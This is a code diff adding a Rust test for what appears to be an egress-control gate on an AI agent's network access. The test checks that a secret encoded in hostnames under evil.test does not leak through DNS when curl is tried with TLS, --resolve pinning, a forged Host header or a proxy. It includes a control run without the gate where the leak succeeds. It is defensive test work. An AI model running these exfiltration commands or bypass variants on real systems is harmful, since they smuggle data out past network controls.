@@ -3,6 +3,7 @@
 use hickory_proto::op::ResponseCode;
 use hickory_proto::rr::RecordType;
 
+use crate::common::has_program;
 use crate::lab::*;
 
 /// What the agent would like to get out, as it fits a label.
@@ -10,7 +11,7 @@ const SECRET: &str = "mzxw6ytboi4gk3tf";
 
 /// Names that carry it and that no rule permits.
 fn carriers() -> Vec<String> {
-    let long = vec![SECRET; 3].join("-");
+    let long = [SECRET; 3].join("-");
     vec![
         format!("{SECRET}.evil.test"),
         format!("{long}.{long}.{long}.evil.test"),
@@ -144,4 +145,41 @@ fn a_wildcard_rule_permits_names_and_with_them_what_they_carry() {
     lab.configure("[[agent]]\nname = \"worker\"\n[[rule]]\nname = \"one\"\nhosts = [\"www.wild.test\"]\naction = \"allow\"\n");
     assert_eq!(addresses(&lab.ask_one(&carrier, RecordType::A)).len(), 1);
     assert_eq!(lab.zone.heard().len(), before);
+}
+
+#[test]
+fn data_in_the_hosts_of_requests_is_heard_by_nobody() {
+    let Some(lab) = Lab::new(RULES).filter(|_| has_program("curl")) else { return };
+    let carrier = format!("{SECRET}.evil.test");
+    let (plain, tls) = (format!("http://{carrier}/"), format!("https://{carrier}/"));
+    let host = format!("Host: {carrier}");
+    let pinned = format!("{carrier}:443:{NOWHERE}");
+    let attempts: [&[&str]; 6] = [
+        &[&plain],
+        &[&tls],
+        &["--resolve", &pinned, &tls],
+        &["-H", &host, "http://v4.test/"],
+        &["-x", "http://v4.test:3128", &plain],
+        &["-p", "-x", "http://v4.test:3128", &tls],
+    ];
+    for attempt in attempts {
+        let curl = [
+            "curl",
+            "-sS",
+            "-o",
+            "/dev/null",
+            "-w",
+            "%{response_code} %{http_connect}",
+            "--max-time",
+            "50",
+        ];
+        let command: Vec<&str> = curl.iter().chain(attempt).copied().collect();
+        let ended = lab.world.run(AGENT, &command);
+        let refused = ["403", "421"].iter().any(|code| ended.stdout.contains(code));
+        assert!(refused, "{attempt:?}: {ended:#?}");
+    }
+    assert_eq!(heard_secret(&lab), Vec::<String>::new());
+    // The control: the first of them without Tollgate.
+    lab.world.start_ungoverned(&[], &["curl", "-sS", "--max-time", "50", &plain]).wait();
+    assert!(!heard_secret(&lab).is_empty());
 }
